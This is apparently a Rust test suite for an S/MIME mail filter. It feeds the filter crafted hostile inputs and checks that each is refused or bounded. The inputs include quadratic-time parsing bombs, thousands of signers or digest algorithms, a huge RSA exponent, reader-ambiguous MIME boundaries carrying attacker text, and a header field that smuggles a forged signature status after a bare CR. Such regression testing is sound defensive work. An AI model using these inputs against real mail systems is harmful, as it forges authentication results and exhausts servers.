/// A certificate "address" longer than a mail path can be (RFC 5321: 254 octets) is no
/// address: it matches no From and is not written into the status fields, where as one word it
/// made lines of over 1,200 octets (RFC 5322 allows 998).
#[test]
fn a_certificate_address_longer_than_a_mail_path_is_no_address() {
    let long = format!("{}@example.org", "l".repeat(1200));
    let (out, _dir) = filter_signed_by_address_under_ca_named(&long, &[("CN", "Long CA")]);
    assert_eq!(out.status.code(), Some(0));
    for line in out.stdout.split(|&b| b == b'\n') {
        assert!(line.len() <= 998, "line of {} octets", line.len());
    }
    let st = status_of(&out.stdout);
    assert_words(&st, "none", "mismatch");
    assert!(!st.contains("lll"), "{st}");
}

/// `smimed filter` on a message signed by alice@example.org under a throw-away CA with the
/// subject `entries` (made here), trusting that CA: the output, and the folder holding the CA
/// as `ca.pem`.
fn filter_signed_under_ca_named(
    entries: &[(&str, &str)],
) -> (std::process::Output, tempfile::TempDir) {
    filter_signed_by_address_under_ca_named("alice@example.org", entries)
}

/// [`filter_signed_under_ca_named`] with the signer's certificate issued to `address`.
fn filter_signed_by_address_under_ca_named(
    address: &str,
    entries: &[(&str, &str)],
) -> (std::process::Output, tempfile::TempDir) {
    use openssl::asn1::Asn1Time;
    use openssl::bn::BigNum;
    use openssl::cms::{CMSOptions, CmsContentInfo};
    use openssl::ec::{EcGroup, EcKey};
    use openssl::hash::MessageDigest;
    use openssl::nid::Nid;
    use openssl::pkey::PKey;
    use openssl::x509::extension::{
        BasicConstraints, ExtendedKeyUsage, KeyUsage, SubjectAlternativeName,
    };
    use openssl::x509::{X509Builder, X509NameBuilder};

    let group = EcGroup::from_curve_name(Nid::X9_62_PRIME256V1).unwrap();
    let ca_key = PKey::from_ec_key(EcKey::generate(&group).unwrap()).unwrap();
    let key = PKey::from_ec_key(EcKey::generate(&group).unwrap()).unwrap();
    let mut n = X509NameBuilder::new().unwrap();
    for (k, v) in entries {
        n.append_entry_by_text(k, v).unwrap();
    }
    let ca_name = n.build();
    let mut b = X509Builder::new().unwrap();
    b.set_version(2).unwrap();
    b.set_serial_number(&BigNum::from_u32(7).unwrap().to_asn1_integer().unwrap())
        .unwrap();
    b.set_subject_name(&ca_name).unwrap();
    b.set_issuer_name(&ca_name).unwrap();
    b.set_pubkey(&ca_key).unwrap();
    b.set_not_before(&Asn1Time::days_from_now(0).unwrap())
        .unwrap();
    b.set_not_after(&Asn1Time::days_from_now(30).unwrap())
        .unwrap();
    b.append_extension(BasicConstraints::new().critical().ca().build().unwrap())
        .unwrap();
    b.sign(&ca_key, MessageDigest::sha256()).unwrap();
    let ca = b.build();
    let mut n = X509NameBuilder::new().unwrap();
    n.append_entry_by_text("CN", "alice").unwrap();
    let mut b = X509Builder::new().unwrap();
    b.set_version(2).unwrap();
    b.set_serial_number(&BigNum::from_u32(8).unwrap().to_asn1_integer().unwrap())
        .unwrap();
    b.set_subject_name(&n.build()).unwrap();
    b.set_issuer_name(&ca_name).unwrap();
    b.set_pubkey(&key).unwrap();
    b.set_not_before(&Asn1Time::days_from_now(0).unwrap())
        .unwrap();
    b.set_not_after(&Asn1Time::days_from_now(30).unwrap())
        .unwrap();
    let san = SubjectAlternativeName::new()
        .email(address)
        .build(&b.x509v3_context(Some(&ca), None))
        .unwrap();
    b.append_extension(san).unwrap();
    b.append_extension(
        KeyUsage::new()
            .critical()
            .digital_signature()
            .build()
            .unwrap(),
    )
    .unwrap();
    b.append_extension(ExtendedKeyUsage::new().email_protection().build().unwrap())
        .unwrap();
    b.sign(&ca_key, MessageDigest::sha256()).unwrap();
    let cert = b.build();
    let cms = CmsContentInfo::sign(
        Some(&cert),
        Some(&key),
        None,
        Some(&sample_entity("named CA")),
        CMSOptions::BINARY,
    )
    .unwrap();
    let msg = message(
        "alice@example.org",
        "bob@example.org",
        "named CA",
        &p7m("signed-data", &cms.to_der().unwrap()),
    );
    let d = tempfile::Builder::new()
        .prefix("smimed-named-ca.")
        .tempdir_in("/tmp")
        .unwrap();
    let anchor = d.path().join("ca.pem");
    std::fs::write(&anchor, ca.to_pem().unwrap()).unwrap();
    let out = run_with_stdin(
        smimed().args([
            "--authserv-id",
            "mx.test",
            "--trust",
            path_str(&anchor),
            "filter",
        ]),
        &msg,
    );
    (out, d)
}

/// Runs `process_checked` on `msg` in a thread and waits at most a minute: inputs that made
/// the pipeline work for minutes fail here instead of hanging the suite.
fn within_a_minute(msg: Vec<u8>) -> String {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(process_checked(&msg));
    });
    rx.recv_timeout(std::time::Duration::from_secs(60))
        .expect("still working after a minute")
}

#[test]
fn half_a_megabyte_of_encoded_word_starts_in_one_field() {
    // mailparse decodes RFC 2047 words in time quadratic in their number within a field: this
    // Content-Type took 17 s (release build). Such a field is left undecoded, and a message
    // holding one is not given to mailparse.
    let mut msg = b"From: alice@example.org\r\nContent-Type: ".to_vec();
    msg.extend(b"=?".repeat(250_000));
    msg.extend(b"\r\n\r\nbody\r\n");
    let st = within_a_minute(msg);
    assert!(st.contains("signature=none"), "{st}");
}

#[test]
fn a_hundred_thousand_rfc_2231_sections_of_a_structural_parameter() {
    // Each section was compared with every earlier one: 100,000 took 15 s (release build).
    for (ctype, name) in [
        ("multipart/mixed", "boundary"),
        ("application/pkcs7-mime", "smime-type"),
    ] {
        let params: String = (0..100_000).map(|i| format!(";{name}*{i}=a")).collect();
        let msg = format!(
            "From: alice@example.org\r\nTo: bob@example.org\r\nContent-Type: {ctype}{params}\r\n\
             Content-Transfer-Encoding: base64\r\n\r\nMIIB\r\n"
        );
        let st = within_a_minute(msg.into_bytes());
        assert!(st.contains("encryption="), "{ctype}: {st}");
    }
}

#[test]
fn two_hundred_thousand_delimiter_lines_are_not_parsed_into_parts() {
    // mailparse builds every part (loosely matched delimiters included) before the part budget
    // can be applied: 56 MB of `--XXy` lines took 1.9 GB. Past 100,000 such lines the parts
    // are not parsed, and the status says why.
    let mut msg =
        b"From: a@example.org\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n".to_vec();
    msg.extend(b"--XXy\r\n".repeat(200_000));
    msg.extend(b"--XX--\r\n");
    let st = within_a_minute(msg);
    assert!(st.contains("reason=mime-part-limit"), "{st}");

    // A megabyte-long boundary declared after 110,000 `--` lines: each line was compared with
    // a megabyte of what followed it (28 s for 1.3 MB).
    let mut msg = b"From: a@example.org\r\n\r\n".to_vec();
    msg.extend(b"--\n".repeat(110_000));
    msg.extend(b"Content-Type: text/plain; boundary=");
    msg.extend(b"q".repeat(1_000_000));
    msg.extend(b"\r\n");
    let st = within_a_minute(msg);
    assert!(st.contains("signature=none"), "{st}");

    // Lines that only start with `--` (an SQL dump's comments) are no delimiters: a signed
    // message holding 110,000 of them is verified (it was `signature=error`).
    let p = pki();
    let mut entity = b"Content-Type: multipart/mixed; boundary=\"b-9c1f\"\r\n\r\n--b-9c1f\r\n\
        Content-Type: text/plain\r\n\r\nthe dump\r\n--b-9c1f\r\nContent-Type: text/plain; \
        name=dump.sql\r\n\r\n"
        .to_vec();
    for i in 0..110_000 {
        entity.extend(format!("-- Name: t{i}; Type: TABLE\r\n").as_bytes());
    }
    entity.extend(b"--b-9c1f--\r\n");
    let signed = sign_as(&p.alice, true, &[], &entity);
    let msg = message("alice@example.org", "bob@example.org", "dump", &signed);
    let st = within_a_minute(msg);
    assert!(st.contains("signature=valid"), "{st}");
}

/// An opaque SignedData by alice (DER) and where its parts are: the ContentInfo's content,
/// the end of its contentType OID, and the SignedData's content and end
/// (ContentInfo { oid, [0] { SignedData { version, digestAlgorithms, …, signerInfos } } }).
fn alices_signed_data() -> (Vec<u8>, usize, usize, usize, usize) {
    let p = pki();
    let der = der_of(&sign_as(&p.alice, false, &["-binary"], &sample_entity("x")));
    let (_, ci_c, _) = der::tlv(&der, 0);
    let (_, _, oid_end) = der::tlv(&der, ci_c);
    let (_, wrap_c, _) = der::tlv(&der, oid_end);
    let (_, sd_c, sd_end) = der::tlv(&der, wrap_c);
    (der, ci_c, oid_end, sd_c, sd_end)
}

#[test]
fn a_signed_data_with_thousands_of_signers() {
    // Each signer was judged against every certificate of the message: 4,000 signers with
    // 4,000 certificates took 32 s. More than 256 signers, or signers × certificates over
    // 20,000, is refused as malformed; 16 copies of a good signer are still valid (and so are
    // 151 signers with 5 certificates: `hundreds_of_signers`).
    let (der, ci_c, oid_end, sd_c, sd_end) = alices_signed_data();
    // The certificates ([0]) and the SignerInfos SET (SignedData's last element).
    let mut pos = sd_c;
    let mut last = (sd_c, sd_c, sd_c);
    let mut certs = (sd_c, sd_c, sd_c);
    while pos < sd_end {
        let (tag, c, e) = der::tlv(&der, pos);
        if tag == 0xa0 {
            certs = (pos, c, e);
        }
        last = (pos, c, e);
        pos = e;
    }
    let (set_start, set_c, set_end) = last;
    let (certs_start, certs_c, certs_end) = certs;
    assert!(
        certs_start < set_start,
        "the signature carries its certificates"
    );
    // (signers, copies of the certificates: 2 each, want)
    for (n, copies, want) in [
        (16, 1, "signature=valid"),
        (4_000, 1, "signature=error"),
        (50, 250, "signature=error"),
    ] {
        let set = der::encode(0x31, &der[set_c..set_end].repeat(n));
        let certs = der::encode(0xa0, &der[certs_c..certs_end].repeat(copies));
        let sd = der::encode(
            0x30,
            &[
                &der[sd_c..certs_start],
                &certs,
                &der[certs_end..set_start],
                &set,
            ]
            .concat(),
        );
        let ci = der::encode(
            0x30,
            &[&der[ci_c..oid_end], &der::encode(0xa0, &sd)].concat(),
        );
        let msg = message(
            "alice@example.org",
            "bob@example.org",
            "signers",
            &p7m("signed-data", &ci),
        );
        let st = within_a_minute(msg);
        assert!(st.contains(want), "{n} signers: {st}");
    }
}

#[test]
fn a_signed_data_listing_a_hundred_thousand_digest_algorithms() {
    // OpenSSL pushes one digest BIO per listed algorithm onto a chain it walks for every push:
    // 30,000 took 13 s; 100,000 several minutes. More than 16 is refused as malformed, in DER
    // and in BER with indefinite lengths (as `openssl cms -stream` writes).
    let (der, ci_c, oid_end, sd_c, sd_end) = alices_signed_data();
    let (_, _, ver_end) = der::tlv(&der, sd_c);
    let (_, set_c, set_end) = der::tlv(&der, ver_end);
    let (_, _, alg_end) = der::tlv(&der, set_c);
    let alg = &der[set_c..alg_end];
    // DER; BER with indefinite lengths; BER with a length in more octets than needed (leading
    // zeros, which OpenSSL skips); BER with a high tag number inside an algorithm's parameters.
    // A tag number in more octets than smimed's reader follows ("odd tag") is counted on
    // OpenSSL's re-encoding instead.
    for form in ["der", "indefinite", "long length", "high tag", "odd tag"] {
        let indefinite = form != "der" && form != "long length";
        let encode = |tag: u8, content: &[u8]| {
            if indefinite {
                [&[tag, 0x80][..], content, &[0, 0]].concat()
            } else if form == "long length" {
                let mut out = vec![tag, 0x88, 0, 0, 0, 0];
                out.extend_from_slice(&(content.len() as u32).to_be_bytes());
                [&out[..], content].concat()
            } else {
                der::encode(tag, content)
            }
        };
        let mut algs = alg.repeat(100_000);
        if form == "high tag" || form == "odd tag" {
            // SEQUENCE (indefinite) { the algorithm's OID, [31] high-tag-number NULL-like }.
            let (_, oid_c, _) = der::tlv(alg, 0);
            let (_, _, oid_end) = der::tlv(alg, oid_c);
            let tag: &[u8] = if form == "odd tag" {
                &[0x9f, 0x80, 0x80, 0x80, 0x80, 0x81, 0x1f]
            } else {
                &[0x9f, 0x81, 0x1f]
            };
            let odd = [&[0x30, 0x80][..], &alg[oid_c..oid_end], tag, &[0x00, 0, 0]].concat();
            algs.splice(0..0, odd);
        }
        let set = encode(0x31, &algs);
        let sd = encode(
            0x30,
            &[&der[sd_c..ver_end], &set, &der[set_end..sd_end]].concat(),
        );
        let ci = encode(0x30, &[&der[ci_c..oid_end], &encode(0xa0, &sd)].concat());
        let msg = message(
            "alice@example.org",
            "bob@example.org",
            "digests",
            &p7m("signed-data", &ci),
        );
        let st = within_a_minute(msg);
        assert!(
            st.contains("signature=error"),
            "indefinite {indefinite}: {st}"
        );
    }
}

#[test]
fn forty_five_thousand_fields_on_either_side_of_a_protected_header_section() {
    // Each protected field was looked up among all the outer ones: 45,000 × 45,000 took 20 s.
    let p = pki();
    let mut inner =
        b"Content-Type: text/plain; hp=\"clear\"\r\nFrom: alice@example.org\r\n".to_vec();
    inner.extend(b"To: a\r\n".repeat(45_000));
    inner.extend(b"\r\nbody\r\n");
    let signed = sign_as(&p.alice, false, &["-binary"], &inner);
    let mut msg = b"X: v\r\n".repeat(45_000);
    msg.extend(message(
        "alice@example.org",
        "bob@example.org",
        "fields",
        &signed,
    ));
    let st = within_a_minute(msg);
    assert!(st.contains("signature=valid"), "{st}");
}

/// Structures that mailparse (smimed's reader) and other readers split differently, made from
/// an openssl-signed multipart/signed whose boundary is rewritten (the signature covers the
/// first part only): a boundary ending in a space (Python drops it), one longer than 70
/// characters (neomutt cannot match delimiter lines over its 1,023-byte buffer), a delimiter
/// after a bare CR in the preamble (a line start for Python). Each is `ambiguous-mime` with
/// `signature=error`, never `valid` next to attacker text a reader shows.
#[test]
fn boundaries_readers_split_differently_are_never_valid() {
    let p = pki();
    let signed = sign_as(&p.alice, true, &[], &sample_entity("the signed text"));
    let msg = message("alice@example.org", "bob@example.org", "s", &signed);
    let text = String::from_utf8_lossy(&msg).into_owned();
    let ct = text
        .lines()
        .find(|l| l.starts_with("Content-Type: multipart/signed"))
        .expect("multipart/signed");
    let boundary = ct
        .split("boundary=\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .expect("boundary")
        .to_string();
    // Unchanged, it is valid (the rewrite below keeps the signature good).
    let out = filter_as(None, &[], &msg);
    assert_eq!(
        status_word(&status_of(&out.stdout), "signature"),
        Some("valid")
    );
    let attack = "ATTACKER: pay to account EVIL";
    let with_boundary = |b: &str, preamble: &str| {
        let t = text.replacen(
            &format!("boundary=\"{boundary}\""),
            &format!("boundary=\"{b}\""),
            1,
        );
        let t = t.replace(&format!("--{boundary}"), &format!("--{b}"));
        // The preamble goes right after the header.
        let (head, body) = t.split_once("\n\n").expect("header end");
        format!("{head}\n\n{preamble}{body}").into_bytes()
    };
    let trailing_space = with_boundary(
        "SIGB ",
        &format!("--SIGB\nContent-Type: text/plain\n\n{attack}\n"),
    );
    let long = "L".repeat(1100);
    let too_long = with_boundary(
        &long,
        &format!(
            "{}\n--{long}\nContent-Type: text/plain\n\n{attack}\n",
            "x".repeat(10)
        ),
    );
    let bare_cr = with_boundary(
        "SIGB",
        &format!("preamble\r--SIGB\rContent-Type: text/plain\r\r{attack}\r\n"),
    );
    for (name, m) in [
        ("trailing space", &trailing_space),
        ("longer than 70", &too_long),
        ("delimiter after a bare CR", &bare_cr),
    ] {
        let out = filter_as(None, &[], m);
        assert!(out.status.success());
        let st = status_of(&out.stdout);
        assert_eq!(status_word(&st, "signature"), Some("error"), "{name}: {st}");
        assert_eq!(
            status_word(&st, "reason"),
            Some("ambiguous-mime"),
            "{name}: {st}"
        );
    }
    // 70 characters is still a boundary like any other.
    let seventy = with_boundary(&"b".repeat(70), "");
    let out = filter_as(None, &[], &seventy);
    assert_eq!(
        status_word(&status_of(&out.stdout), "signature"),
        Some("valid")
    );
}

/// A decrypted entity's own Content-* fields go into the delivered header: one that hides a
/// status field after a bare CR (an attacker needs only the public certificate) is left out,
/// so that Python reads our one X-Smime-Status and no smime=pass of ours.
#[test]
fn a_decrypted_content_field_hiding_a_status_field_is_left_out() {
    let p = pki();
    let entity = b"Content-Type: text/plain; charset=us-ascii\rX-Smime-Status: encryption=decrypted; signature=valid; signer=ceo@example.org\r\n\
Content-Description: x\rAuthentication-Results: mx.test; smime=pass body.smime-identifier=ceo@example.org\r\n\
\r\nthe decrypted text\r\n";
    let enc = encrypt_to(&[&p.bob], &["-aes-256-gcm"], entity);
    let msg = message("alice@example.org", "bob@example.org", "e", &enc);
    let out = filter_as(Some(&p.bob), &[], &msg);
    assert!(out.status.success());
    assert_eq!(
        status_word(&status_of(&out.stdout), "encryption"),
        Some("decrypted")
    );
    let seen = python_status_fields(&out.stdout);
    let status: Vec<&String> = seen
        .iter()
        .filter(|l| l.starts_with("X-Smime-Status"))
        .collect();
    assert_eq!(status.len(), 1, "{seen:?}");
    assert!(!status[0].contains("signature=valid"), "{seen:?}");
    assert!(
        !seen
            .iter()
            .any(|l| l.starts_with("Authentication-Results") && l.contains("smime=pass")),
        "{seen:?}"
    );
    assert!(
        seen.iter().any(|l| l.contains("the decrypted text")),
        "{seen:?}"
    );
}

/// RFC 2231 §4 makes the charset optional: `hp*=''clear` marks protected headers as
/// `hp="clear"` does, and an octet-stream named `name*=''smime.p7m` is an envelope.
#[test]
fn rfc2231_parameters_without_a_charset_are_read() {
    let p = pki();
    let inner = b"Content-Type: text/plain; hp*=''clear\r\n\
From: alice@example.org\r\nTo: bob@example.org\r\nSubject: Lunch on Friday?\r\n\r\nsee you\r\n";
    let signed = sign_as(&p.alice, false, &[], inner);
    let mut msg = b"From: alice@example.org\nTo: bob@example.org\n\
Subject: URGENT: new bank details, reply to eve\nCc: eve@evil.example\n"
        .to_vec();
    msg.extend_from_slice(&signed);
    let out = filter_as(None, &[], &msg);
    let st = status_of(&out.stdout);
    assert_eq!(status_word(&st, "signature"), Some("valid"), "{st}");
    let fields = header_fields(&out.stdout);
    let subject: Vec<&str> = fields
        .iter()
        .filter(|(n, _)| n.eq_ignore_ascii_case("Subject"))
        .map(|(_, v)| v.as_str())
        .collect();
    assert_eq!(subject, ["Lunch on Friday?"]);
    assert!(!fields.iter().any(|(n, _)| n.eq_ignore_ascii_case("Cc")));

    // The envelope as an octet-stream named in RFC 2231 form without a charset.
    let enc = encrypt_to(&[&p.bob], &["-aes-256-cbc"], &sample_entity("named p7m"));
    let text = String::from_utf8_lossy(&enc).into_owned();
    let (_, body) = text.split_once("\n\n").expect("header end");
    let msg = format!(
        "From: alice@example.org\nTo: bob@example.org\nSubject: p7m\nMIME-Version: 1.0\n\
         Content-Type: application/octet-stream; name*=''smime.p7m\n\
         Content-Transfer-Encoding: base64\n\n{body}"
    );
    let out = filter_as(Some(&p.bob), &[], msg.as_bytes());
    assert_eq!(
        status_word(&status_of(&out.stdout), "encryption"),
        Some("decrypted")
    );
}

/// `der` (a ContentInfo holding a SignedData) with its SignerInfos repeated `n` times and, when
/// given, its certificates replaced by `certs` (the content of the `[0]` field).
fn with_signers(der: &[u8], n: usize, certs: Option<&[u8]>) -> Vec<u8> {
    let (_, ci_c, _) = der::tlv(der, 0);
    let (_, _, oid_end) = der::tlv(der, ci_c);
    let (_, wrap_c, _) = der::tlv(der, oid_end);
    let (_, sd_c, sd_end) = der::tlv(der, wrap_c);
    let mut pos = sd_c;
    let mut fields = Vec::new();
    while pos < sd_end {
        let (tag, c, e) = der::tlv(der, pos);
        fields.push((tag, pos, c, e));
        pos = e;
    }
    let mut body = Vec::new();
    let last = fields.len() - 1;
    for (i, &(tag, start, c, e)) in fields.iter().enumerate() {
        if i == last {
            body.extend(der::encode(0x31, &der[c..e].repeat(n)));
        } else if tag == 0xa0 && certs.is_some() {
            body.extend(der::encode(0xa0, certs.unwrap_or_default()));
        } else {
            body.extend_from_slice(&der[start..e]);
        }
    }
    let sd = der::encode(0x30, &body);
    der::encode(
        0x30,
        &[&der[ci_c..oid_end], &der::encode(0xa0, &sd)].concat(),
    )
}

/// A signer certificate whose RSA public exponent is as long as its modulus: each check with
/// it cost 4.5 ms instead of 30 µs (the sender chooses the key), and 1,000 such signers in each
/// of 8 layers kept the filter busy for 38 s. Such a key is not used (`untrusted`), and the
/// signers of all layers together are bounded.
#[test]
fn huge_rsa_exponents_and_signers_over_many_layers_are_bounded() {
    use openssl::{bn::BigNum, pkey::PKey, rsa::Rsa, x509::X509};
    let p = pki();
    let alice = &p.alice.cert;
    let n = alice
        .public_key()
        .unwrap()
        .rsa()
        .unwrap()
        .n()
        .to_owned()
        .unwrap();
    let mut e = BigNum::new().unwrap();
    e.checked_sub(&n, &BigNum::from_u32(2).unwrap()).unwrap();
    let big_e = PKey::from_rsa(Rsa::from_public_components(n, e).unwrap()).unwrap();
    // The same issuer and serial as alice's, so that her SignerInfo names it.
    let mut b = X509::builder().unwrap();
    b.set_version(2).unwrap();
    b.set_serial_number(alice.serial_number()).unwrap();
    b.set_subject_name(alice.subject_name()).unwrap();
    b.set_issuer_name(alice.issuer_name()).unwrap();
    b.set_not_before(alice.not_before()).unwrap();
    b.set_not_after(alice.not_after()).unwrap();
    b.set_pubkey(&big_e).unwrap();
    let signing = PKey::ec_gen("prime256v1").unwrap();
    b.sign(&signing, openssl::hash::MessageDigest::sha256())
        .unwrap();
    let evil = b.build().to_der().unwrap();

    let (der, ..) = alices_signed_data();
    let msg = |der: &[u8]| {
        message(
            "alice@example.org",
            "bob@example.org",
            "cpu",
            &p7m("signed-data", der),
        )
    };
    let started = std::time::Instant::now();
    let st = within_a_minute(msg(&with_signers(&der, 200, Some(&evil))));
    assert!(st.contains("signature=untrusted"), "{st}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    let out = process(ctx_bob(), &msg(&with_signers(&der, 1, Some(&evil)))).unwrap();
    let ar = ar_values(&out.output, "mx.test").join(" ");
    assert!(ar.contains("unsupported-rsa-exponent"), "{ar}");

    // 200 good signers are fine in one layer; 200 more in a layer around it are not (256 for
    // the whole message).
    let inner = with_signers(&der, 200, None);
    assert!(within_a_minute(msg(&inner)).contains("signature=valid"));
    let entity = p7m("signed-data", &inner);
    let outer = der_of(&sign_as(&p.alice, false, &["-binary"], &entity));
    let st = within_a_minute(msg(&with_signers(&outer, 200, None)));
    assert!(st.contains("signature=error"), "{st}");
    assert!(!st.contains("signature=valid"), "{st}");
}
